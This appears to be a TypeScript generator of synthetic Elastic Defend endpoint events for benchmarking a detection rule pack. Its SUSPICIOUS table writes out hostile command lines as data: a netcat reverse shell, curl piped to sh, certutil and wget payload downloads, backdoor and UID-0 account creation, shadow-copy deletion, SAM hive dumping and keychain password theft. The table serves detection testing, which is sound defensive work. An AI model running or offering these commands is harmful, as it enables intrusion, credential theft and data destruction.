/**
 * A realistic fleet mix for the whole-pack bench: Elastic Defend-shaped events (data_stream
 * logs-endpoint.events.*) from Windows, Linux and macOS hosts — process, file, network, registry,
 * library, DNS and authentication events with the fields Defend sends (Ext, parent, code
 * signature, hashes, pe), 1–1.5 KB each, diverse values (random users, paths, arguments, hashes,
 * addresses). About one event in 150 is an attacker-ish command (encoded PowerShell, LOLBins,
 * curl piped to a shell, osascript, …) so the public pack alerts as it would on real evidence.
 * Deterministic: the same seed writes the same bytes.
 */
import { Random } from '../data/ecs-events.ts';

type Event = Record<string, unknown>;
type Os = 'windows' | 'linux' | 'macos';
type Program = readonly [executable: string, args: readonly string[]];

interface Host {
  readonly name: string;
  readonly id: string;
  readonly os: Os;
  readonly ip: string;
  readonly mac: string;
  readonly agentId: string;
  readonly users: readonly string[];
}

const OS: Record<Os, Event> = {
  windows: { type: 'windows', family: 'windows', name: 'Windows', full: 'Windows Server 2019 Datacenter 1809 (10.0.17763.5696)', platform: 'windows', version: '1809', kernel: '1809 (10.0.17763.5696)' },
  linux: { type: 'linux', family: 'ubuntu', name: 'Linux', full: 'Ubuntu 22.04.4', platform: 'ubuntu', version: '22.04.4', kernel: '5.15.0-1057-aws #63~20.04.1-Ubuntu SMP' },
  macos: { type: 'macos', family: 'darwin', name: 'macOS', full: 'macOS 14.4.1', platform: 'macos', version: '14.4.1', kernel: 'Darwin Kernel Version 23.4.0' },
};

const WORDS = ['alpha', 'report', 'build', 'cache', 'sync', 'update', 'backup', 'agent', 'client', 'daily', 'export', 'invoice', 'node', 'service', 'deploy', 'metrics', 'q3', 'draft', 'final', 'staging'];
const FIRST = ['anna', 'ben', 'chen', 'dara', 'eli', 'fatima', 'gus', 'hana', 'ivan', 'jo', 'kofi', 'lena', 'mo', 'nia', 'omar', 'pia', 'raj', 'sam', 'tess', 'yuki'];

const PROGRAMS: Record<Os, readonly Program[]> = {
  windows: [
    ['C:\\Windows\\System32\\svchost.exe', ['-k', 'netsvcs', '-p', '-s', 'Schedule']],
    ['C:\\Windows\\explorer.exe', []],
    ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', ['--type=renderer', '--lang=en-US', '--field-trial-handle=1900']],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', ['/recycle']],
    ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', ['-NoProfile', '-File', 'C:\\ProgramData\\inventory.ps1']],
    ['C:\\Windows\\System32\\conhost.exe', ['0xffffffff', '-ForceV1']],
    ['C:\\Windows\\System32\\RuntimeBroker.exe', ['-Embedding']],
    ['C:\\Windows\\System32\\taskhostw.exe', ['{222A245B-E637-4AE9-A93F-A59CA119A75E}']],
    ['C:\\Program Files\\Microsoft VS Code\\Code.exe', ['--type=utility']],
    ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', ['-secured', '-Embedding']],
    ['C:\\Windows\\System32\\msiexec.exe', ['/V']],
    ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', ['--single-argument']],
  ],
  linux: [
    ['/usr/bin/bash', ['-c', 'systemctl status nginx']],
    ['/usr/sbin/sshd', ['-D', '-R']],
    ['/usr/bin/python3.10', ['/usr/bin/unattended-upgrade', '--download-only']],
    ['/usr/bin/docker', ['ps', '--format', '{{.Names}}']],
    ['/usr/lib/postgresql/14/bin/postgres', ['-D', '/var/lib/postgresql/14/main']],
    ['/usr/sbin/cron', ['-f']],
    ['/usr/bin/git', ['pull', '--ff-only']],
    ['/usr/bin/containerd-shim-runc-v2', ['-namespace', 'moby', '-address', '/run/containerd/containerd.sock']],
    ['/usr/bin/node', ['/srv/app/server.js']],
    ['/usr/sbin/nginx', ['-g', 'daemon off;']],
    ['/usr/bin/apt-get', ['-qq', 'update']],
  ],
  macos: [
    ['/usr/bin/curl', ['-s', 'https://updates.example.com/feed.json']],
    ['/bin/zsh', ['-l']],
    ['/usr/bin/git', ['fetch', '--prune', 'origin']],
    ['/Applications/Slack.app/Contents/MacOS/Slack', ['--type=renderer', '--enable-sandbox']],
    ['/usr/sbin/mdworker_shared', ['-s', 'mdworker', '-c', 'MDSImporterWorker']],
    ['/usr/libexec/xpcproxy', ['com.apple.WebKit.WebContent']],
    ['/opt/homebrew/bin/node', ['/Users/dev/project/node_modules/.bin/vite', 'build']],
    ['/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder', []],
    ['/usr/libexec/trustd', ['--agent']],
  ],
};

/** Ordinary parents of ordinary programs (a random pair would look like masquerading to the pack). */
const PARENTS: Record<Os, readonly string[]> = {
  windows: ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\System32\\userinit.exe'],
  linux: ['/usr/lib/systemd/systemd', '/usr/bin/bash', '/usr/sbin/sshd'],
  macos: ['/sbin/launchd', '/bin/zsh'],
};

/** Attacker-ish activity (what the public pack looks for), one in `SUSPICIOUS_EVERY` events. */
const SUSPICIOUS: Record<Os, readonly (readonly [parent: string, program: Program])[]> = {
  windows: [
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ['C:\\Windows\\System32\\cmd.exe', ['/c', 'whoami', '/all']]],
    ['C:\\Windows\\System32\\cmd.exe', ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', ['-nop', '-w', 'hidden', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=']]],
    ['C:\\Windows\\explorer.exe', ['C:\\Windows\\System32\\certutil.exe', ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.txt', 'C:\\Users\\Public\\a.exe']]],
    ['C:\\Windows\\System32\\cmd.exe', ['C:\\Windows\\System32\\rundll32.exe', ['C:\\Users\\Public\\payload.dll,DllRegisterServer']]],
    ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', ['C:\\Windows\\System32\\net.exe', ['user', 'backdoor', 'P@ss1', '/add']]],
    ['C:\\Windows\\System32\\cmd.exe', ['C:\\Windows\\System32\\vssadmin.exe', ['delete', 'shadows', '/all', '/quiet']]],
    ['C:\\Windows\\System32\\services.exe', ['C:\\Windows\\System32\\schtasks.exe', ['/create', '/tn', 'Updater', '/tr', 'C:\\Users\\Public\\u.exe', '/sc', 'onlogon']]],
    ['C:\\Windows\\System32\\cmd.exe', ['C:\\Windows\\System32\\reg.exe', ['save', 'HKLM\\SAM', 'C:\\Windows\\Temp\\sam.save']]],
  ],
  linux: [
    ['/usr/bin/bash', ['/usr/bin/curl', ['-fsSL', 'http://203.0.113.9/x.sh', '|', 'sh']]],
    ['/usr/bin/bash', ['/usr/bin/chmod', ['+x', '/tmp/.x/kworker']]],
    ['/usr/sbin/sshd', ['/usr/bin/base64', ['-d', '/tmp/p.b64']]],
    ['/usr/bin/bash', ['/usr/bin/nc', ['-e', '/bin/sh', '203.0.113.9', '4444']]],
    ['/usr/bin/python3.10', ['/usr/bin/bash', ['-i']]],
    ['/usr/sbin/cron', ['/usr/bin/wget', ['-q', 'http://203.0.113.9/m', '-O', '/dev/shm/m']]],
    ['/usr/bin/bash', ['/usr/sbin/useradd', ['-o', '-u', '0', 'svc']]],
  ],
  macos: [
    ['/bin/zsh', ['/usr/bin/osascript', ['-e', 'display dialog "Update required" default answer "" with hidden answer']]],
    ['/bin/zsh', ['/usr/bin/security', ['find-generic-password', '-wa', 'Chrome']]],
    ['/bin/bash', ['/bin/launchctl', ['load', '-w', '/Library/LaunchDaemons/com.update.plist']]],
    ['/bin/zsh', ['/usr/bin/curl', ['-o', '/tmp/.u', 'http://203.0.113.5/u']]],
    ['/bin/zsh', ['/usr/bin/xattr', ['-d', 'com.apple.quarantine', '/tmp/.u']]],
    ['/bin/bash', ['/usr/bin/dscl', ['.', '-create', '/Users/svc']]],
  ],
};
const SUSPICIOUS_EVERY = 150;

const DOMAINS = ['api.github.com', 'updates.example.com', 'ocsp.digicert.com', 'login.microsoftonline.com', 's3.amazonaws.com', 'cdn.jsdelivr.net', 'slack.com', 'registry.npmjs.org'];
const REG_KEYS = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKCU\\Software\\Microsoft\\Office\\16.0\\Common', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State', 'HKCU\\Software\\Classes\\CLSID', 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'];
const LIBS: Record<Os, readonly string[]> = {
  windows: ['C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\kernelbase.dll', 'C:\\Windows\\System32\\wininet.dll', 'C:\\Windows\\System32\\crypt32.dll', 'C:\\Windows\\System32\\amsi.dll'],
  linux: ['/usr/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/x86_64-linux-gnu/libssl.so.3', '/usr/lib/x86_64-linux-gnu/libpam.so.0'],
  macos: ['/usr/lib/libSystem.B.dylib', '/System/Library/Frameworks/Security.framework/Security', '/usr/lib/libobjc.A.dylib'],
};

function basename(path: string): string {
  return path.slice(Math.max(path.lastIndexOf('/'), path.lastIndexOf('\\')) + 1);
}

function makeHosts(random: Random, count: number): Host[] {
  const oses: Os[] = ['windows', 'windows', 'linux', 'linux', 'macos'];
  return Array.from({ length: count }, (_, i) => {
    const os = oses[i % oses.length]!;
    const name = os === 'windows' ? `WIN-${random.hex(8).toUpperCase()}` : os === 'macos' ? `mbp-${random.pick(FIRST)}-${random.hex(3)}` : `ip-10-0-${random.int(256)}-${random.int(256)}`;
    const users = Array.from({ length: 3 }, () => `${random.pick(FIRST)}.${random.pick(FIRST)}${random.int(100)}`);
    const system = os === 'windows' ? ['SYSTEM', 'LOCAL SERVICE', 'NETWORK SERVICE'] : os === 'linux' ? ['root', 'www-data', 'ubuntu'] : ['root', '_spotlight', '_mdnsresponder'];
    return {
      name,
      id: random.uuid(),
      os,
      ip: `10.${random.int(256)}.${random.int(256)}.${1 + random.int(254)}`,
      mac: Array.from({ length: 6 }, () => random.hex(2)).join('-'),
      agentId: random.uuid(),
      users: [...users, ...system],
    };
  });
}

function randomPath(random: Random, host: Host, user: string): string {
  const name = `${random.pick(WORDS)}_${random.hex(6)}.${random.pick(['txt', 'log', 'tmp', 'json', 'docx', 'pdf', 'db', 'dat', 'xml'])}`;
  if (host.os === 'windows') return random.pick([`C:\\Users\\${user}\\AppData\\Local\\Temp\\${name}`, `C:\\Users\\${user}\\Documents\\${random.pick(WORDS)}\\${name}`, `C:\\ProgramData\\${random.pick(WORDS)}\\${name}`, `C:\\Windows\\Temp\\${name}`]);
  if (host.os === 'linux') return random.pick([`/var/log/${random.pick(WORDS)}/${name}`, `/home/${user}/${random.pick(WORDS)}/${name}`, `/tmp/${random.hex(8)}/${name}`, `/srv/app/${random.pick(WORDS)}/${name}`]);
  return random.pick([`/Users/${user}/Library/Caches/com.${random.pick(WORDS)}.app/${name}`, `/private/var/folders/${random.hex(2)}/${random.hex(8)}/T/${name}`, `/Users/${user}/Downloads/${name}`]);
}

/** Who signs a program, as Defend reports it (a browser signed by someone else looks masqueraded). */
function signer(executable: string): string {
  if (executable.includes('Google')) return 'Google LLC';
  if (executable.includes('Slack')) return 'Slack Technologies, Inc.';
  if (executable.startsWith('C:\\Program Files')) return 'Microsoft Corporation';
  if (executable.startsWith('C:')) return 'Microsoft Windows';
  return executable.startsWith('/opt/') ? 'Developer ID Application: Node.js Foundation' : 'Software Signing';
}

function processOf(random: Random, host: Host, user: string, program: Program, parentExecutable: string): Event {
  const [executable, args] = program;
  const pid = 300 + random.int(60000);
  const extra = random.next() < 0.5 ? [randomPath(random, host, user)] : [];
  const all = [executable, ...args, ...extra];
  const signed = host.os !== 'linux';
  return {
    pid,
    entity_id: random.hex(40),
    executable,
    name: basename(executable),
    args: all,
    args_count: all.length,
    command_line: all.map((arg) => (arg.includes(' ') ? `"${arg}"` : arg)).join(' '),
    hash: { sha256: random.hex(64) },
    parent: { pid: pid - 1 - random.int(200), entity_id: random.hex(40), executable: parentExecutable, name: basename(parentExecutable), command_line: parentExecutable },
    ...(signed ? { code_signature: { exists: true, trusted: true, status: 'trusted', subject_name: signer(executable) } } : {}),
    ...(host.os === 'windows' ? { pe: { original_file_name: basename(executable).toUpperCase(), company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System' }, Ext: { token: { integrity_level_name: random.pick(['high', 'medium', 'system']) }, ancestry: [random.hex(40)] } } : { Ext: { ancestry: [random.hex(40)] } }),
    ...(host.os === 'linux' ? { interactive: random.next() < 0.2, session_leader: { pid: 1000 + random.int(9000), name: 'bash' }, group_leader: { pid: 1000 + random.int(9000) } } : {}),
  };
}

function userOf(host: Host, name: string): Event {
  return host.os === 'windows' ? { name, domain: name === name.toUpperCase() ? 'NT AUTHORITY' : 'CORP', id: `S-1-5-21-${name.length}00-${name.charCodeAt(0)}` } : { name, id: name === 'root' ? '0' : String(500 + name.length * 7) };
}

function base(random: Random, host: Host, time: number, dataset: string, event: Event): Event {
  return {
    '@timestamp': new Date(time).toISOString(),
    agent: { type: 'endpoint', version: '8.13.2', id: host.agentId },
    data_stream: { type: 'logs', dataset, namespace: 'default' },
    ecs: { version: '8.10.0' },
    event: { agent_id_status: 'verified', ingested: new Date(time + 800 + random.int(4000)).toISOString(), id: random.uuid(), sequence: random.int(2 ** 31), module: 'endpoint', dataset, ...event },
    host: { name: host.name, hostname: host.name, id: host.id, architecture: host.os === 'macos' ? 'arm64' : 'x86_64', ip: [host.ip, `fe80::${random.hex(4)}:${random.hex(4)}`], mac: [host.mac], os: OS[host.os] },
  };
}

function fleetEvent(random: Random, hosts: readonly Host[], time: number, suspicious: boolean): Event {
  const host = random.pick(hosts);
  const user = random.pick(host.users);
  if (suspicious) {
    const [parent, program] = random.pick(SUSPICIOUS[host.os]);
    return { ...base(random, host, time, 'endpoint.events.process', { kind: 'event', category: ['process'], type: ['start'], action: 'start' }), process: processOf(random, host, user, program, parent), user: userOf(host, user) };
  }
  const program = random.pick(PROGRAMS[host.os]);
  const parent = random.pick(PARENTS[host.os]);
  const kind = random.int(20);
  if (kind < 8) {
    const type = random.next() < 0.6 ? 'start' : 'end';
    return { ...base(random, host, time, 'endpoint.events.process', { kind: 'event', category: ['process'], type: [type], action: type === 'start' ? (host.os === 'windows' ? 'start' : 'exec') : 'end' }), process: processOf(random, host, user, program, parent), user: userOf(host, user) };
  }
  const shortProcess = { pid: 300 + random.int(60000), entity_id: random.hex(40), executable: program[0], name: basename(program[0]) };
  if (kind < 12) {
    const path = randomPath(random, host, user);
    const name = basename(path);
    const action = random.pick(['creation', 'modification', 'overwrite', 'deletion', 'rename']);
    return {
      ...base(random, host, time, 'endpoint.events.file', { kind: 'event', category: ['file'], type: [action === 'creation' ? 'creation' : action === 'deletion' ? 'deletion' : 'change'], action }),
      file: { path, name, extension: name.slice(name.lastIndexOf('.') + 1), size: random.int(5_000_000), ...(host.os === 'windows' ? { Ext: { header_bytes: random.hex(16), entropy: Math.round(random.next() * 8000) / 1000 } } : { inode: String(random.int(9_999_999)) }) },
      process: shortProcess,
      user: userOf(host, user),
    };
  }
  if (kind < 15) {
    const egress = random.next() < 0.8;
    const remote = `${1 + random.int(223)}.${random.int(256)}.${random.int(256)}.${random.int(256)}`;
    return {
      ...base(random, host, time, 'endpoint.events.network', { kind: 'event', category: ['network'], type: ['start'], action: egress ? 'connection_attempted' : 'connection_accepted' }),
      source: egress ? { ip: host.ip, port: 49152 + random.int(16000), bytes: random.int(9000) } : { ip: remote, port: 1024 + random.int(60000) },
      destination: egress ? { ip: remote, port: random.pick([443, 443, 443, 80, 53, 8443]), bytes: random.int(90000) } : { ip: host.ip, port: random.pick([443, 8080, 5985]) },
      network: { transport: 'tcp', type: 'ipv4', direction: egress ? 'egress' : 'ingress' },
      process: shortProcess,
      user: userOf(host, user),
    };
  }
  if (kind < 17 && host.os === 'windows') {
    const key = `${random.pick(REG_KEYS)}\\${random.pick(WORDS)}${random.hex(4)}`;
    const value = random.pick(WORDS);
    return {
      ...base(random, host, time, 'endpoint.events.registry', { kind: 'event', category: ['registry'], type: ['change'], action: 'modification' }),
      registry: { hive: key.slice(0, 4), key: key.slice(5), path: `${key}\\${value}`, value, data: { strings: [randomPath(random, host, user)], type: 'REG_SZ' } },
      process: shortProcess,
      user: userOf(host, user),
    };
  }
  if (kind < 18) {
    const path = random.pick(LIBS[host.os]);
    return {
      ...base(random, host, time, 'endpoint.events.library', { kind: 'event', category: ['library'], type: ['start'], action: 'load' }),
      dll: { path, name: basename(path), hash: { sha256: random.hex(64) }, ...(host.os === 'linux' ? {} : { code_signature: { exists: true, trusted: true, subject_name: host.os === 'macos' ? 'Software Signing' : 'Microsoft Windows' } }) },
      process: shortProcess,
      user: userOf(host, user),
    };
  }
  if (kind < 19) {
    const name = random.next() < 0.85 ? random.pick(DOMAINS) : `${random.hex(12)}.${random.pick(['xyz', 'top', 'net'])}`;
    return {
      ...base(random, host, time, 'endpoint.events.network', { kind: 'event', category: ['network'], type: ['protocol', 'info'], action: 'lookup_result' }),
      dns: { question: { name, type: 'A' }, resolved_ip: [`${1 + random.int(223)}.${random.int(256)}.${random.int(256)}.${random.int(256)}`] },
      network: { protocol: 'dns', transport: 'udp' },
      process: shortProcess,
      user: userOf(host, user),
    };
  }
  const success = random.next() < 0.9;
  return {
    ...base(random, host, time, 'endpoint.events.security', { kind: 'event', category: ['authentication'], type: ['start'], action: host.os === 'windows' ? 'log_on' : 'ssh_login', outcome: success ? 'success' : 'failure' }),
    source: { ip: `10.${random.int(256)}.${random.int(256)}.${random.int(256)}`, port: random.int(65535) },
    process: { pid: 300 + random.int(60000), executable: host.os === 'windows' ? 'C:\\Windows\\System32\\lsass.exe' : '/usr/sbin/sshd', name: host.os === 'windows' ? 'lsass.exe' : 'sshd' },
    user: userOf(host, user),
  };
}

/** `count` fleet events as NDJSON lines, in time order. */
export function* fleetLines(count: number, seed = 20240601): Generator<string> {
  const random = new Random(seed);
  const hosts = makeHosts(random, 200);
  let time = Date.parse('2024-05-01T00:00:00Z');
  for (let i = 0; i < count; i++) {
    time += 1 + random.int(60);
    yield JSON.stringify(fleetEvent(random, hosts, time, i % SUSPICIOUS_EVERY === SUSPICIOUS_EVERY - 1));
  }
}
